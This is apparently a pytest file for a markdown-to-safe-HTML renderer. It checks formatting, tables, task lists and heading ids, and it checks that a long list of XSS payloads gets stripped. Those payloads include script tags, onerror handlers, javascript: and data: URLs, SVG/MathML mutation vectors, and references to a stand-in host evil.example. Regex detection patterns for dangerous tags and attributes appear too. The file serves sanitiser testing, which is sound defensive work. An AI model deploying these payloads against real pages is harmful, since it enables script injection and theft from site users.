"""Markdown to safe HTML."""

import re
import time

import pytest

from apps.reports.rendering import MAX_RAW_TAGS, Fence, Html, pieces


def html_of(markdown, title=""):
    return "".join(piece.html for piece in pieces(markdown, title=title) if isinstance(piece, Html)).strip()


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("*a* **b** `c` ~~d~~", "<p><em>a</em> <strong>b</strong> <code>c</code> <s>d</s></p>"),
        ("a\\\nb", "<p>a<br>\nb</p>"),
        ("> q", "<blockquote>\n<p>q</p>\n</blockquote>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("```python\nx < 1\n```", "<pre><code>x &lt; 1\n</code></pre>"),
        ("[a](https://b.c/?d=e&f)", '<p><a href="https://b.c/?d=e&amp;f" rel="nofollow noopener noreferrer">a</a></p>'),
        ("<https://b.c>", '<p><a href="https://b.c" rel="nofollow noopener noreferrer">https://b.c</a></p>'),
        ("H<sub>2</sub>O <kbd>Ctrl</kbd>", "<p>H<sub>2</sub>O <kbd>Ctrl</kbd></p>"),
        ("a & b < c", "<p>a &amp; b &lt; c</p>"),
    ],
)
def test_commonmark_is_rendered(markdown, html):
    assert html_of(markdown) == html


def test_tables_keep_the_alignment_of_their_columns_without_styles():
    html = html_of("| a | b | c |\n|:--|--:|---|\n| 1 | 2 | 3 |")
    assert re.search('<th (?=[^>]*align="left")(?=[^>]*scope="col")[^>]*>a</th>', html)
    assert '<td align="right">2</td>' in html
    assert "<td>3</td>" in html
    assert "style" not in html


def test_task_lists_become_checkboxes_that_nobody_can_click():
    html = html_of("- [ ] open\n- [x] *done*\n- [z] plain\n- [x]close")
    boxes = re.findall(r'<li class="task"><input ([^>]*)> (.*)</li>', html)
    assert [(set(attributes.split()), words) for attributes, words in boxes] == [
        ({'type="checkbox"', 'disabled=""', 'aria-label="Task"'}, "open"),
        ({'type="checkbox"', 'disabled=""', 'aria-label="Task"', 'checked=""'}, "<em>done</em>"),
    ]
    assert "<li>[z] plain</li>" in html
    assert "<li>[x]close</li>" in html


def test_headings_come_below_the_title_with_ids_that_links_reach():
    html = html_of("## Why & how\n\n#### Deep\n\n## Why & how\n\n[there](#why--how-1)")
    assert '<h2 id="section-why--how">' in html
    assert '<h4 id="section-deep">' in html
    assert '<h2 id="section-why--how-1">' in html
    assert 'href="#section-why--how-1"' in html


def test_a_first_heading_that_repeats_the_title_is_left_out():
    assert html_of("# Result\n\ntext", title="Result") == "<p>text</p>"
    assert html_of("# Results\n\ntext", title="Result").startswith("<h2")


def test_pictures_are_links_because_another_host_would_learn_who_reads():
    assert html_of("![a *b*](http://x.y/z.png)") == (
        '<p><a href="http://x.y/z.png" rel="nofollow noopener noreferrer">a b</a></p>'
    )
    assert html_of("[![badge](http://x.y/z.png)](http://d.e)") == (
        '<p><a href="http://d.e" rel="nofollow noopener noreferrer">badge</a></p>'
    )
    assert (
        html_of('![a](<x" onerror="b>)')
        == '<p><a href="x%22%20onerror=%22b" rel="nofollow noopener noreferrer">a</a></p>'
    )


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<p onclick="alert(1)" style="position:fixed">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jav&#x09;ascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="data:x">x</mi></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<style>body{display:none}</style>",
    '<div style="background:url(//evil.example)">x</div>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<iframe src="//evil.example"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<form action="//evil.example"><input type="password" name="p" onfocus=alert(1) autofocus></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<panel-board data-board="x"></panel-board><panel-chart data-key="x"></panel-chart>',
    '<div id="main" class="bar" data-panel="0">x</div>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<video><source onerror="alert(1)"></video>',
    '<input type="image" src="x" onerror="alert(1)">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<?php alert(1) ?>",
    '| a |\n|---|\n| <img src=x onerror="alert(1)"> |',
    '# <img src=x onerror="alert(1)">',
    '```"><script>alert(1)</script>\nx\n```',
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    '[^"><img src=x>]\n\n[^"><img src=x>]: x',
    "[toc]\n\n# <img src=x onerror=alert(1)> &lt;script&gt;alert(1)&lt;/script&gt;",
    '<span data-mark="0-0"></span> <a id="main" class="button">x</a>',
    '@run:06n4jm4pvb5bs"><script>alert(1)</script>',
    '![" onerror="alert(1)](image:<script>)',
]


@pytest.mark.parametrize("markdown", HOSTILE)
def test_hostile_markdown_loses_what_could_act(markdown):
    html = html_of(f"before\n\n{markdown}\n\nafter")
    tags = re.findall(r"<[^>]*>", html)
    assert not [
        tag for tag in tags if re.search(r"\son\w+\s*=|style\s*=|srcset|formaction|xlink|autofocus|data-", tag, re.I)
    ]
    assert not [
        tag
        for tag in tags
        if re.match(
            r"</?(script|style|svg|math|img|iframe|object|embed|form|button|base|meta|link|video|template|panel)",
            tag,
            re.I,
        )
    ]
    assert not [tag for tag in tags if re.search(r"(href|src)\s*=\s*[\"']?\s*(javascript|vbscript|data)", tag, re.I)]
    inputs = [tag for tag in tags if tag.startswith("<input")]
    assert all('type="checkbox"' in tag and 'disabled=""' in tag for tag in inputs)
    assert "before" in html


def test_no_id_of_the_page_can_be_taken_over():
    assert 'id="main"' not in html_of('<h2 id="main">x</h2>\n\n# main')
    assert 'id="section-main"' in html_of("# main")


def test_panel_blocks_come_out_in_place_with_their_lines_wherever_they_are():
    markdown = "a\n\n```panel\nkind: line\n```\n\n"
    markdown += "> quote\n>\n> ~~~panel title\n> keys: x\n> ~~~\n\n- item\n\n  ```panel\n  b: c\n  ```\n"
    found = pieces(markdown)
    assert [piece for piece in found if isinstance(piece, Fence)] == [
        Fence("kind: line\n", 3),
        Fence("keys: x\n", 9),
        Fence("b: c\n", 15),
    ]
    assert isinstance(found[0], Html)
    assert found[0].html.strip() == "<p>a</p>"
    assert html_of(markdown).count("<blockquote>") == html_of(markdown).count("</blockquote>") == 1


def test_a_fence_that_only_looks_like_a_panel_is_code():
    assert html_of("```panels\nkind: line\n```") == "<pre><code>kind: line\n</code></pre>"


def test_an_author_cannot_fake_the_place_of_a_panel():
    secrets = ["0" * 32, "", "secret"]
    for secret in secrets:
        found = pieces(f'<div data-panel="{secret}-0"></div>\n\n```panel\nx: y\n```')
        assert sum(isinstance(piece, Fence) for piece in found) == 1
    assert "data-panel" not in html_of('<div data-panel="0-0">x</div>')


def test_raw_html_without_end_is_shown_as_text_and_costs_little():
    began = time.process_time()
    html = html_of("<div>" * 200_000) + html_of("<b></i>" * 150_000)
    assert time.process_time() - began < 20  # 100 s and more when sanitised as tags
    assert html.count("&lt;b&gt;") > 100_000
    assert html.count("<b>") <= MAX_RAW_TAGS
    assert pieces("") == []
